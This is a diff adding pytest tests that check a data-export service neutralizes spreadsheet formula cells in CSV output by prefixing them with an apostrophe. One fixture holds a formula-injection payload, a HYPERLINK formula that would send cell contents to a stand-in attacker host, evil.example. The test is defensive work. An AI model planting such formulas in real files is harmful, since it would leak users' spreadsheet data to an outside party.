@@ -12,6 +12,7 @@ from uuid import UUID
 
 import pytest
 
+from app.datasources.records import neutralized
 from app.datasources.service import encode_cursor
 from app.datasources.types import SPECS, DataType
 from tests.datasources.conftest import ORG, YEAR_2026, World, live
@@ -183,3 +184,41 @@ async def test_bad_reads_are_refused_with_a_reason(world: World, source: dict[st
     single = await world.records(other["id"], accept="text/csv")
     assert single.status_code == 200
     assert len(single.text.splitlines()) == 1 + len(live(world.sandbox, "contacts"))
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(world: World) -> None:
+    contact = world.sandbox.records(ORG, "contacts")[0]
+    contact.data["Name"] = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    contact.data["City"] = "@SUM(1+1)"
+    contact.data["Phone"] = "+45 12 34 56 78"
+    contact.data["Street"] = "-2+3"
+    created = await world.created(data_types=["contacts"])
+    await world.run_jobs()
+
+    response = await world.records(created["id"], accept="text/csv")
+
+    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.text))}
+    row = rows[contact.guid.lower()]
+    assert row["Name"] == "'" + contact.data["Name"]
+    assert (row["City"], row["Phone"], row["Street"]) == ("'@SUM(1+1)", "'+45 12 34 56 78", "'-2+3")
+    # JSON and NDJSON carry Dinero's values as they are.
+    page = await world.records(created["id"], data_type="contacts", limit=1000)
+    data = {i["key"]: i["data"] for i in page.json()["items"]}[contact.guid.lower()]
+    assert data["Name"] == contact.data["Name"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Taxa 1+1", "Taxa 1+1"),
+        ("", ""),
+    ],
+)
+def test_neutralized_text(cell: str, shown: str) -> None:
+    assert neutralized(cell) == shown
